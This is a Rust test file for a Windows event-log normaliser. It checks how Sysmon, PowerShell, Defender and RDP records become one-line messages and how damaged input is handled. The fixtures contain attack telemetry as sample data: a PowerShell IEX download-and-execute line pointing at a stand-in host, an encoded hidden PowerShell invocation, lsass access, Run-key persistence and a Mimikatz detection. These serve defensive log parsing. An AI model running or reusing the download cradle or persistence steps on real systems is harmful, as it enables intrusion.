//! Hand-built Sysmon, PowerShell, Defender and RDP records, generic messages and damaged input.

use super::tests::{SEC, check, rec, sec, sysmon};
use super::{MSG_CAP, normalise};
use crate::model::Norm;

#[test]
fn sysmon_events() {
    let p = [
        ("ProcessId", "4321"),
        ("Image", "C:\\Windows\\System32\\cmd.exe"),
        (
            "CommandLine",
            "\"C:\\Windows\\System32\\cmd.exe\" /c whoami",
        ),
        ("User", "CORP\\bob"),
        ("IntegrityLevel", "High"),
        ("Hashes", "SHA256=AB12"),
        ("ParentProcessId", "1234"),
        ("ParentImage", "C:\\Program Files\\Office\\WINWORD.EXE"),
    ];
    check(
        sysmon("1", &p),
        "Sysmon 1 process \"C:\\Windows\\System32\\cmd.exe\" /c whoami (parent C:\\Program Files\\Office\\WINWORD.EXE) by CORP\\bob [High]",
        &[
            (Norm::Pid, "4321"),
            (Norm::Hash, "SHA256=AB12"),
            (Norm::User, "CORP\\bob"),
            (Norm::Category, "process"),
        ],
    );
    let net = [
        ("ProcessId", "3164"),
        ("Image", "C:\\Windows\\System32\\mshta.exe"),
        ("User", "CORP\\bob"),
        ("Protocol", "tcp"),
        ("Initiated", "true"),
        ("SourceIp", "10.0.2.15"),
        ("SourcePort", "49826"),
        ("DestinationIp", "151.101.0.133"),
        ("DestinationHostname", "cdn.example"),
        ("DestinationPort", "443"),
    ];
    check(
        sysmon("3", &net),
        "Sysmon 3 tcp 10.0.2.15:49826 -> 151.101.0.133:443 (cdn.example) by C:\\Windows\\System32\\mshta.exe (CORP\\bob)",
        &[
            (Norm::DstIp, "151.101.0.133"),
            (Norm::DstPort, "443"),
            (Norm::Proto, "tcp"),
            (Norm::Category, "network"),
        ],
    );
    let img = ("Image", "C:\\x\\a.exe");
    check(
        sysmon("5", &[("ProcessId", "7"), img]),
        "Sysmon 5 process terminated C:\\x\\a.exe pid 7",
        &[(Norm::Pid, "7")],
    );
    check(
        sysmon(
            "7",
            &[
                img,
                ("ImageLoaded", "C:\\x\\evil.dll"),
                ("Signed", "false"),
                ("SignatureStatus", "Unavailable"),
            ],
        ),
        "Sysmon 7 image loaded C:\\x\\evil.dll into C:\\x\\a.exe unsigned (Unavailable)",
        &[(Norm::File, "C:\\x\\evil.dll")],
    );
    let inj = [
        ("SourceProcessId", "11"),
        ("SourceImage", "C:\\x\\a.exe"),
        ("TargetImage", "C:\\Windows\\notepad.exe"),
        ("StartModule", "-"),
        ("StartFunction", "-"),
    ];
    check(
        sysmon("8", &inj),
        "Sysmon 8 remote thread C:\\x\\a.exe -> C:\\Windows\\notepad.exe",
        &[(Norm::Pid, "11")],
    );
    let acc = [
        ("SourceProcessId", "11"),
        ("SourceImage", "C:\\x\\a.exe"),
        ("TargetImage", "C:\\Windows\\system32\\lsass.exe"),
        ("GrantedAccess", "0x1010"),
    ];
    check(
        sysmon("10", &acc),
        "Sysmon 10 process access C:\\x\\a.exe -> C:\\Windows\\system32\\lsass.exe access 0x1010",
        &[(Norm::Process, "C:\\x\\a.exe")],
    );
    check(
        sysmon("11", &[img, ("TargetFilename", "C:\\Users\\bob\\dump.dmp")]),
        "Sysmon 11 file created C:\\Users\\bob\\dump.dmp by C:\\x\\a.exe",
        &[
            (Norm::File, "C:\\Users\\bob\\dump.dmp"),
            (Norm::Category, "file"),
        ],
    );
    let run = "HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd";
    check(
        sysmon(
            "12",
            &[("EventType", "CreateKey"), img, ("TargetObject", run)],
        ),
        &format!("Sysmon 12 registry CreateKey {run} by C:\\x\\a.exe"),
        &[(Norm::Category, "registry")],
    );
    check(
        sysmon(
            "13",
            &[
                ("EventType", "SetValue"),
                img,
                ("TargetObject", run),
                ("Details", "C:\\x\\a.exe"),
            ],
        ),
        &format!("Sysmon 13 registry SetValue {run} = C:\\x\\a.exe by C:\\x\\a.exe"),
        &[],
    );
    check(
        sysmon(
            "22",
            &[
                ("QueryName", "evil.example"),
                ("QueryStatus", "0"),
                ("QueryResults", "::ffff:1.2.3.4;"),
                img,
            ],
        ),
        "Sysmon 22 DNS evil.example -> ::ffff:1.2.3.4; by C:\\x\\a.exe",
        &[(Norm::Category, "dns")],
    );
    check(
        sysmon(
            "23",
            &[
                ("User", "CORP\\bob"),
                img,
                ("TargetFilename", "C:\\x\\a.ps1"),
                ("Hashes", "MD5=00"),
                ("Archived", "true"),
            ],
        ),
        "Sysmon 23 file deleted C:\\x\\a.ps1 by C:\\x\\a.exe (archived)",
        &[(Norm::Hash, "MD5=00"), (Norm::File, "C:\\x\\a.ps1")],
    );
}

#[test]
fn powershell_events() {
    let ps = "Microsoft-Windows-PowerShell";
    let op = "Microsoft-Windows-PowerShell/Operational";
    let sb = [
        ("MessageNumber", "1"),
        ("MessageTotal", "3"),
        (
            "ScriptBlockText",
            "\r\n  IEX (New-Object Net.WebClient).DownloadString('http://x/a')\r\nWrite-Host done",
        ),
        ("ScriptBlockId", "{5a0f}"),
        ("Path", ""),
    ];
    check(
        rec(ps, op, "4104", &sb),
        "PowerShell 4104 script block 1/3: IEX (New-Object Net.WebClient).DownloadString('http://x/a') Write-Host done",
        &[
            (
                Norm::Cmdline,
                "IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
            ),
            (Norm::Category, "process"),
        ],
    );
    let ctx = "        Severity = Informational\r\n        Host Application = powershell.exe -nop -w hidden\r\n        Command Name = Invoke-WebRequest\r\n        User = CORP\\bob\r\n";
    let d = [
        ("ContextInfo", ctx),
        ("UserData", ""),
        (
            "Payload",
            "CommandInvocation(Invoke-WebRequest): \"Invoke-WebRequest\"\r\nParameterBinding",
        ),
    ];
    check(
        rec(ps, op, "4103", &d),
        "PowerShell 4103 pipeline Invoke-WebRequest by CORP\\bob: CommandInvocation(Invoke-WebRequest): \"Invoke-WebRequest\" ParameterBinding",
        &[(Norm::Cmdline, "powershell.exe -nop -w hidden")],
    );
    let details = "\tNewEngineState=Available\n\tPreviousEngineState=None\n\n\tHostName=ConsoleHost\n\tHostApplication=powershell.exe -enc SQBFAFgA\n\tEngineVersion=5.1\n";
    let d = [
        ("Data", "Available"),
        ("Data_1", "None"),
        ("Data_2", details),
    ];
    check(
        rec("PowerShell", "Windows PowerShell", "400", &d),
        "PowerShell 400 engine started host powershell.exe -enc SQBFAFgA",
        &[(Norm::Cmdline, "powershell.exe -enc SQBFAFgA")],
    );
    let d = [
        ("Data", "Stopped"),
        ("Data_1", "Available"),
        ("Data_2", details),
    ];
    check(
        rec("PowerShell", "Windows PowerShell", "403", &d),
        "PowerShell 403 engine stopped host powershell.exe -enc SQBFAFgA",
        &[],
    );
}

#[test]
fn defender_and_rdp() {
    let def = "Microsoft-Windows-Windows Defender";
    let op = "Microsoft-Windows-Windows Defender/Operational";
    let d = [
        ("Threat Name", "HackTool:Win32/Mimikatz"),
        ("Severity Name", "High"),
        ("Category Name", "Tool"),
        ("Path", "file:_C:\\Users\\bob\\m.exe; process:_pid:1"),
        ("Process Name", "Unknown"),
        ("Detection User", "CORP\\bob"),
        ("Action ID", "2"),
        ("Action Name", "%%809"),
        ("Error Code", "0x00000000"),
    ];
    check(
        rec(def, op, "1116", &d),
        "Defender 1116 detected HackTool:Win32/Mimikatz (High Tool) in C:\\Users\\bob\\m.exe user CORP\\bob",
        &[
            (Norm::File, "C:\\Users\\bob\\m.exe"),
            (Norm::Action, "detected"),
            (Norm::Category, "alert"),
        ],
    );
    check(
        rec(def, op, "1117", &d),
        "Defender 1117 action quarantine on HackTool:Win32/Mimikatz (High Tool) in C:\\Users\\bob\\m.exe user CORP\\bob",
        &[(Norm::Action, "quarantine"), (Norm::User, "CORP\\bob")],
    );
    let lsm = "Microsoft-Windows-TerminalServices-LocalSessionManager";
    let lop = "Microsoft-Windows-TerminalServices-LocalSessionManager/Operational";
    let d = [
        ("User", "CORP\\alice"),
        ("SessionID", "2"),
        ("Address", "10.0.0.7"),
    ];
    check(
        rec(lsm, lop, "21", &d),
        "RDP 21 session logon CORP\\alice session 2 from 10.0.0.7",
        &[
            (Norm::SrcIp, "10.0.0.7"),
            (Norm::Action, "logon"),
            (Norm::Category, "auth"),
        ],
    );
    check(
        rec(lsm, lop, "24", &d),
        "RDP 24 session disconnected CORP\\alice session 2 from 10.0.0.7",
        &[],
    );
    let local = [
        ("User", "CORP\\alice"),
        ("SessionID", "1"),
        ("Address", "LOCAL"),
    ];
    let mut f = rec(lsm, lop, "25", &local);
    normalise(&mut f);
    assert_eq!(
        f.get(Norm::Message),
        Some("RDP 25 session reconnected CORP\\alice session 1 from LOCAL")
    );
    assert_eq!(f.get(Norm::SrcIp), None, "LOCAL is not an address");
    let rcm = "Microsoft-Windows-TerminalServices-RemoteConnectionManager";
    let d = [
        ("Param1", "alice"),
        ("Param2", "CORP"),
        ("Param3", "10.0.0.7"),
    ];
    check(
        rec(
            rcm,
            "Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational",
            "1149",
            &d,
        ),
        "RDP 1149 user authenticated CORP\\alice from 10.0.0.7",
        &[(Norm::User, "CORP\\alice"), (Norm::SrcIp, "10.0.0.7")],
    );
}

#[test]
fn same_id_under_other_providers_is_generic() {
    // 104 from RdpCoreTS is not "log cleared"; event 1 from a non-Sysmon provider is not a process.
    let mut f = rec(
        "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS",
        "x/Operational",
        "104",
        &[("TimezoneBiasHour", "[1]")],
    );
    normalise(&mut f);
    assert_eq!(
        f.get(Norm::Message),
        Some("Microsoft-Windows-RemoteDesktopServices-RdpCoreTS 104: TimezoneBiasHour=[1]")
    );
    assert_eq!(f.get(Norm::Category), None);
    let mut f = rec(
        "Microsoft-Windows-Winsock-WS2HELP",
        "System",
        "1",
        &[("Image", "C:\\a.exe")],
    );
    normalise(&mut f);
    assert_eq!(
        f.get(Norm::Message),
        Some("Microsoft-Windows-Winsock-WS2HELP 1: Image=C:\\a.exe")
    );
    assert_eq!(
        f.get(Norm::Process),
        Some("C:\\a.exe"),
        "generic field mapping"
    );
}

#[test]
fn generic_message_skips_identifiers_and_truncates() {
    let long = "v".repeat(100);
    let d = [
        ("SubjectUserSid", "S-1-5-18"),
        ("SubjectUserName", "SYSTEM"),
        ("SubjectDomainName", "NT AUTHORITY"),
        ("SubjectLogonId", "0x3e7"),
        ("A", "1"),
        ("B", "-"),
        ("C", long.as_str()),
        ("D", "4"),
        ("E", "5"),
        ("F", "6"),
        ("G", "7"),
    ];
    let mut f = sec("4999", &d);
    normalise(&mut f);
    let want = format!(
        "{SEC} 4999: SubjectUserName=SYSTEM SubjectDomainName=NT AUTHORITY A=1 C={}… D=4 E=5 …",
        "v".repeat(60)
    );
    assert_eq!(f.get(Norm::Message), Some(want.as_str()));
    assert_eq!(f.get(Norm::User), Some("NT AUTHORITY\\SYSTEM"));
    // No data at all.
    let mut f = rec("Some-Provider", "Application", "7", &[]);
    normalise(&mut f);
    assert_eq!(f.get(Norm::Message), Some("Some-Provider 7"));
}

#[test]
fn damaged_records_never_panic_and_stay_one_line() {
    let huge = "A\u{2028}B\n\tC ".repeat(5000);
    let odd = [
        "",
        "-",
        "0x",
        "0xZZ",
        "\u{202e}evil",
        "é\r\n",
        "%%",
        "CN=",
        "CN=\\",
        "::ffff:",
        &huge,
    ];
    for eid in [
        "4624", "4625", "4634", "4648", "4672", "4688", "4689", "4697", "4698", "4720", "4728",
        "4738", "4768", "4769", "4771", "4776", "5140", "5145", "4662", "5136", "5156", "4663",
        "x", "",
    ] {
        for v in odd {
            let names = [
                "TargetUserName",
                "TargetDomainName",
                "Status",
                "SubStatus",
                "LogonType",
                "IpAddress",
                "MemberName",
                "TaskContent",
                "CommandLine",
                "NewProcessName",
                "ShareName",
                "RelativeTargetName",
                "AccessList",
                "Properties",
                "Protocol",
            ];
            let d: Vec<(&str, &str)> = names.iter().map(|n| (*n, v)).collect();
            for mut f in [
                sec(eid, &d),
                sysmon(eid, &d),
                rec("", "", eid, &d),
                rec("PowerShell", "", eid, &d),
            ] {
                normalise(&mut f);
                let m = f.get(Norm::Message).unwrap_or("");
                assert!(!m.is_empty());
                assert!(!m.contains(['\n', '\r', '\t', '\u{2028}']), "{m:?}");
                assert!(m.chars().count() <= MSG_CAP);
            }
        }
    }
}

#[test]
fn message_cap_keeps_a_char_boundary() {
    let cmd = "ü".repeat(2000);
    let mut f = sysmon(
        "1",
        &[
            ("Image", "C:\\a.exe"),
            ("CommandLine", &cmd),
            ("ParentImage", "C:\\p.exe"),
            ("User", "u"),
        ],
    );
    normalise(&mut f);
    let m = f.get(Norm::Message).unwrap_or("");
    // The command line is capped per value, so parent and user survive.
    assert!(m.ends_with("… (parent C:\\p.exe) by u"), "{m}");
    assert_eq!(
        f.get(Norm::Cmdline).map(str::len),
        Some(cmd.len()),
        "the field itself is not truncated"
    );
}
